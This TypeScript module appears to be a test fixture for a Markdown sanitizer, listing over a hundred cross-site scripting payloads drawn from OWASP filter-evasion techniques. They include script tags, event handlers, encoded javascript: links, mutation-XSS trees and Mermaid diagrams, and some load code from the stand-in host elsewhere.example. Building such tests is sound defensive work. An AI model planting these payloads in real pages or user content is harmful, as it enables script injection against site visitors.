// Ways to smuggle a script into Markdown, after the techniques that the OWASP cheat sheet on filter evasion names.
// One that works sets window.__hit, opens a dialog, leaves the page or asks another server for something.

const hit = "window.__hit=1";
const code = `${hit};alert(1)`;
const elsewhere = "https://elsewhere.example";
const entities = (text: string, form: (code: number) => string) =>
  [...text].map((character) => form(character.codePointAt(0) ?? 0)).join("");
const spelled = `javascript:${code}`;
const base64 = Buffer.from(`<script>parent.${code}</script>`).toString("base64");

/** Markdown of each attempt by what it tries. */
export const payloads: Record<string, string> = {
  // Script elements, whole and broken.
  "a script": `<script>${code}</script>`,
  "a script in mixed case": `<ScRiPt>${code}</sCrIpT>`,
  "a script from elsewhere": `<script src="${elsewhere}/x.js"></script>`,
  "a script from elsewhere without a protocol": "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
  "a script that is never closed": `<script>${code}`,
  "a script from elsewhere that is never closed": `<script src=${elsewhere}/x.js?<b>`,
  "a script with a slash for a space": `<script/x src="${elsewhere}/x.js"></script>`,
  "a script with an odd character after its name": `<script\u000b>${code}</script>`,
  "a script within a script": `<scr<script>ipt>${code}</scr</script>ipt>`,
  "doubled brackets": `<<script>${code};//<</script>`,
  "an end tag with blanks": `<script>${code}</script \n\t foo>`,
  "a script behind a quote": `"><script>${code}</script>`,
  "a quote that hides the end of a script": `<script a=">" src="${elsewhere}/x.js"></script>`,
  "a quote in backticks": `<script a=\`>\` src="${elsewhere}/x.js"></script>`,
  "a module": `<script type="module">${hit}</script>`,
  "a script of another type": `<script type="text/vbscript">MsgBox(1)</script><script language="javascript">${hit}</script>`,
  "a script of SVG": `<svg><script>${code}</script></svg>`,
  "a script of SVG by link": `<svg><script xlink:href="data:,${code}"></script></svg>`,
  "a script of SVG in entities": `<svg><script>${entities(code, (n) => `&#${n};`)}</script></svg>`,
  "a script in fullwidth brackets": `＜script＞${code}＜/script＞`,
  "a script in overlong and UTF-7 spelling": `+ADw-script+AD4-${code}+ADw-/script+AD4-\n\n%C0%BCscript%C0%BE${code}`,
  "a script with null bytes": `<scr\0ipt>${code}</scr\0ipt>`,
  "a script in entities": `&lt;script&gt;${code}&lt;/script&gt;`,
  "a script spelled in escapes": `\\u003cscript\\u003e${code}\\x3c/script\\x3e`,

  // Handlers of events.
  "a picture that fails": `<img src=x onerror="${code}">`,
  "a picture that fails, without quotes or blanks": `<img/src/onerror=${hit}>`,
  "a picture that fails, with a handler in entities": `<img src=x onerror="${entities(code, (n) => `&#0000${n}`)}">`,
  "a picture with a broken tag": `<img """><script>${code}</script>">`,
  "a picture with a handler after a line feed": `<img src=x\nonerror\n=\n"${code}">`,
  "a picture with a handler behind a null byte": `<img src=x \0onerror="${code}">`,
  "a picture with a handler after a backtick": `<img src=\`x\`onerror=${hit}>`,
  "a picture that is never closed": `<img src="x" onerror="${code}"`,
  "a handler in capitals": `<IMG SRC=x ONERROR=${hit}>`,
  "handlers of the body": `<body onload="${code}"><body background="javascript:${hit}">`,
  "a focused field": `<input autofocus onfocus="${code}">`,
  "a focused selection": `<select autofocus onfocus=${hit}><option>x</select>`,
  "a focused keygen": `<keygen autofocus onfocus=${hit}>`,
  "a heading that is pointed at": `<h2 onmouseover="${code}" onclick="${hit}">Meaning</h2>`,
  "an opened fold": `<details open ontoggle="${code}"><summary>x</summary>y</details>`,
  "a marquee": `<marquee onstart="${code}" loop=1>x</marquee>`,
  "a film": `<video autoplay onloadstart="${code}"><source onerror="${hit}" src=x></video>`,
  "a sound": `<audio src=x onerror="${code}"></audio>`,
  "an animation": `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${code}">x</p>`,
  "a transition": `<p style="transition:all 1s" ontransitionrun="${hit}" tabindex=1>x</p>`,
  "a link pointed at": `<a onmouseover=${hit}>x</a><a href="#" onclick="${hit}">y</a>`,
  "a popover": `<button popovertarget=x>Click</button><div popover id=x onbeforetoggle=${hit}>y</div>`,
  "an access key": `<a accesskey="x" onclick="${hit}" href="#">x</a>`,
  "drawing that loads": `<svg onload="${code}"></svg>`,
  "drawing that loads, without blanks": `<svg/onload=${hit}>`,
  "drawing that is animated": `<svg><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  "a custom element": `<x-x onclick="${hit}" contenteditable onfocus="${code}" autofocus tabindex=1>x</x-x>`,

  // Addresses.
  "a link to a script": `<a href="${spelled}">x</a>`,
  "a link in mixed case": `<a href="JaVaScRiPt:${code}">x</a>`,
  "a link with a tab": `<a href="jav\tascript:${code}">x</a>`,
  "a link with a tab in an entity": `<a href="jav&#x09;ascript:${code}">x</a>`,
  "a link with a line feed in an entity": `<a href="jav&#x0A;ascript:${code}">x</a>`,
  "a link with a carriage return": `<a href="jav&#x0D;ascript:${code}">x</a>`,
  "a link with named entities": `<a href="javascript&colon;${hit}&lpar;&rpar;">x</a><a href="java&Tab;script:${hit}">y</a>`,
  "a link in decimal entities": `<a href="${entities(spelled, (n) => `&#${n};`)}">x</a>`,
  "a link in padded entities": `<a href="${entities(spelled, (n) => `&#${String(n).padStart(7, "0")}`)}">x</a>`,
  "a link in hexadecimal entities": `<a href="${entities(spelled, (n) => `&#x${n.toString(16)};`)}">x</a>`,
  "a link with a null byte": `<a href="java\0script:${code}">x</a>`,
  "a link behind control characters": `<a href=" &#14;  javascript:${code}">x</a>`,
  "a link to VBScript": `<a href='vbscript:msgbox("x")'>x</a><a href="livescript:${hit}">y</a>`,
  "a link to a page of data": `<a href="data:text/html;base64,${base64}">x</a>`,
  "a link to a script over a line": `<a href="javascript://%0a${code}">x</a>`,
  "a link to a blob or a file": `<a href="blob:${elsewhere}/x">x</a><a href="file:///etc/passwd">y</a>`,
  "a link that pings": `<a href="/" ping="${elsewhere}/ping">x</a>`,
  "a link of SVG": `<svg><a xlink:href="${spelled}"><text y=20>x</text></a></svg>`,
  "a link of MathML": `<math><a xlink:href="${spelled}">x</a><mi href="${spelled}">y</mi></math>`,
  "a picture of a script": `<img src="${spelled}"><img dynsrc="${spelled}"><img lowsrc="${spelled}">`,
  "a picture from elsewhere": `<img src="${elsewhere}/x.png" srcset="${elsewhere}/y.png 2x">`,
  "a picture of data": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${hit}'/>">`,
  "a picture within a picture": `<picture><source srcset="${elsewhere}/x.png"><img src=x></picture>`,
  "old backgrounds": `<table background="${spelled}"><td background="${elsewhere}/x.png">x</table><bgsound src="${spelled}">`,
  "a long description": `<img src="/uploads/x" longdesc="${spelled}" usemap="#m"><map name=m><area href="${spelled}" coords=0,0,9,9></map>`,
  "a quotation with an address": `<blockquote cite="${spelled}">x</blockquote><q cite="${spelled}">y</q>`,

  // Markdown's own forms.
  "a Markdown link": `[x](${spelled}) [y](<javascript:${code}>) [z](JAVASCRIPT:${hit})`,
  "a Markdown link in entities": `[x](&#106;avascript:${hit}) [y](javascript&colon;${hit}) [z](jav&#x09;ascript:${hit})`,
  "a Markdown link with a title that ends": `[x](/ "\\" onmouseover=${hit} x=\\"") [y](/ '"><script>${hit}</script>')`,
  "a Markdown link to data": `[x](data:text/html;base64,${base64}) [y](vbscript:x)`,
  "a Markdown link with an escaped colon": `[x](javascript\\:${hit}) [y](java%0ascript:${hit}) [z](%6aavascript:${hit})`,
  "a Markdown picture": `![x](${spelled}) ![y](${elsewhere}/x.png) ![z"onerror="${hit}](x)`,
  "a Markdown picture of data": `![x](data:image/svg+xml;base64,${base64})`,
  "an automatic link": `<javascript:${hit}> <data:text/html,x> <vbscript:x>`,
  "an automatic link that breaks out": `https://x.example/"onmouseover="${hit} <https://x.example/\`onerror=${hit}>`,
  "a reference": `[x][a] [y]\n\n[a]: javascript:${hit}\n[y]: data:text/html;base64,${base64}`,
  "a reference on another line": `[x][a]\n\n[a]:\n  java\tscript:${hit}\n  "onclick=${hit}"`,
  "a footnote": `x[^"><img src=x onerror=${hit}>]\n\n[^"><img src=x onerror=${hit}>]: <script>${hit}</script>`,
  "a language of code": `\`\`\`"><img/src/onerror=${hit}>\nx\n\`\`\`\n\n~~~js onload=${hit}\n<script>${hit}</script>\n~~~`,
  "a heading": `# <img src=x onerror=${hit}> "onload=${hit}\n\n## __proto__\n\n## constructor`,
  "a cell of a table": `|<img src=x onerror=${hit}>|[x](${spelled})|\n|-|-|\n|<script>${hit}</script>|\`<svg onload=${hit}>\`|`,
  "an admonition": `> [!WARNING]<script>${hit}</script>\n> <img src=x onerror=${hit}>`,
  "a shortcode": `[x]({{< ref "javascript:${hit}" >}}) {{< ref "//elsewhere.example/x" >}}\n\n{{< hint "onload=${hit}" >}}\n\n<script>${hit}</script>\n\n{{< /hint >}}`,
  "code that tries to end": `\`</code><script>${hit}</script>\`\n\n    </pre><script>${hit}</script>`,
  "a task": `- [x"onclick=${hit}] y\n- [ ] <input type=image src=x onerror=${hit}>`,

  // Styles.
  "a style sheet": `<style>body{background:url("${elsewhere}/x.png")}</style><style>@import "${elsewhere}/x.css";</style>`,
  "a style with an expression": `<p style="width:expression(${hit});background:url(${spelled});-moz-binding:url(${elsewhere}/x#y)">x</p>`,
  "a style with a broken word": `<p style="xss:expr/*x*/ession(${hit});@im\\port'${elsewhere}/x'">x</p>`,
  "a style that covers the page": `<p style="position:fixed;inset:0;z-index:99999;font-size:9999px" class="fixed inset-0">x</p>`,
  "a linked style sheet": `<link rel=stylesheet href="${elsewhere}/x.css"><link rel=import href="${elsewhere}/x"><link rel=preload as=image href="${elsewhere}/y">`,
  "a layer": `<layer src="${elsewhere}/x"></layer><xss style="behavior:url(x.htc)">x</xss><xml id=x><i><b>&lt;img src=x onerror=${hit}&gt;</b></i></xml>`,

  // Frames, objects, forms and what moves the page.
  "a frame": `<iframe src="${spelled}"></iframe><iframe src="${elsewhere}/"></iframe>`,
  "a frame with a document of its own": `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  "a set of frames": `<frameset><frame src="${spelled}"></frameset>`,
  "an object": `<object data="${spelled}"></object><object type="text/x-scriptlet" data="${elsewhere}/x"><param name=url value=${spelled}></object>`,
  "something embedded": `<embed src="${elsewhere}/x.swf" allowscriptaccess=always><embed src="data:image/svg+xml;base64,${base64}"><applet code=x></applet>`,
  "another base": `<base href="${elsewhere}/"><base target=x>`,
  "a page that moves": `<meta http-equiv="refresh" content="0;url=${elsewhere}/"><meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64}">`,
  "a page that sets": `<meta http-equiv="Set-Cookie" content="x=<script>${hit}</script>"><meta http-equiv="content-security-policy" content="script-src *"><meta charset="utf-7">`,
  "a form": `<form action="${spelled}"><input type=submit value=Go></form><form action="${elsewhere}/"><button formaction="${spelled}">x</button>`,
  "a form for another": `<form id=f></form><button form=f formaction="${spelled}">x</button><isindex type=image src=x onerror=${hit}>`,
  "a portal": `<portal src="${elsewhere}/"></portal><fencedframe src="${elsewhere}/"></fencedframe>`,

  // Trees that a second reading would grow differently.
  "a template": `<template><img src=x onerror=${hit}></template><template shadowrootmode=open><script>${hit}</script></template>`,
  "a noscript": `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
  "a text area": `<textarea><img title="</textarea><img src=x onerror=${hit}>"></textarea>`,
  "a title": `<title><img title="</title><img src=x onerror=${hit}>"></title><xmp><p title="</xmp><svg/onload=${hit}>"></xmp>`,
  "mathematics that holds a style": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;">`,
  "forms within mathematics": `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${hit}>`,
  "a style within a drawing": `<svg></p><style><a id="</style><img src=x onerror=${hit}>">`,
  "a foreign object": `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=${hit}><iframe srcdoc="<script>parent.${hit}</script>"></iframe></foreignObject></svg>`,
  "a drawing that uses another": `<svg><use href="data:image/svg+xml;base64,${base64}#x"/><set attributeName=href to="${spelled}"/><image href="${elsewhere}/x.png"/></svg>`,
  "a comment that ends early": `<!--><img src=x onerror=${hit}>--> <!--[if gte IE 4]><script>${hit}</script><![endif]--> <!-- --!><img src=x onerror=${hit}>`,
  "data of XML": `<![CDATA[<script>${hit}</script>]]> <?xml-stylesheet href="${spelled}"?> <!DOCTYPE x [<!ENTITY y "${hit}">]><?import namespace="t" implementation="#default#time2">`,
  "a server's own words": `<!--#exec cmd="/bin/echo '<script>${hit}</script>'"--> <% ${hit} %> <? echo('<script>${hit}</script>') ?>`,

  // Names that a script of the page might look for.
  "names that hide others": `<img name=getElementById><form id=forms><input name=attributes></form><a id=__next_f></a><a id=__hit href="cid:x">x</a>`,
  "headings with such names": `# __next_f\n\n# location\n\n# __hit\n\n# next\n\n# main\n\n# body`,
  "a name twice": `<a id=config><a id=config name=url href="${elsewhere}/x">x</a></a><object id=self name=top></object>`,

  // Diagrams.
  "a diagram with a script in a label": `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=${hit}>"] --> B["<script>${hit}</script>"]\n\`\`\``,
  "a diagram with a click": `\`\`\`mermaid\ngraph TD\n  A --> B\n  click A href "${spelled}" "x"\n  click B call alert(1)\n\`\`\``,
  "a diagram that loosens its rules": `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(${elsewhere}/x.css)"}}%%\ngraph TD\n  A["<iframe srcdoc='<script>parent.${hit}</script>'>"] --> B\n\`\`\``,
  "a diagram with a picture": `\`\`\`mermaid\ngraph TD\n  A@{ img: "${elsewhere}/x.png", label: "x" } --> B["\`**x** ![y](${elsewhere}/y.png)\`"]\n\`\`\``,
  "a diagram that ends its source": `\`\`\`mermaid\n</code></pre><script>${hit}</script><iframe src=${spelled}>\n\`\`\``,

  // Last, because it swallows whatever follows.
  "old texts": `<listing>&lt;img src=x onerror=${hit}&gt;</listing><plaintext><img src=x onerror=${hit}>`,
};
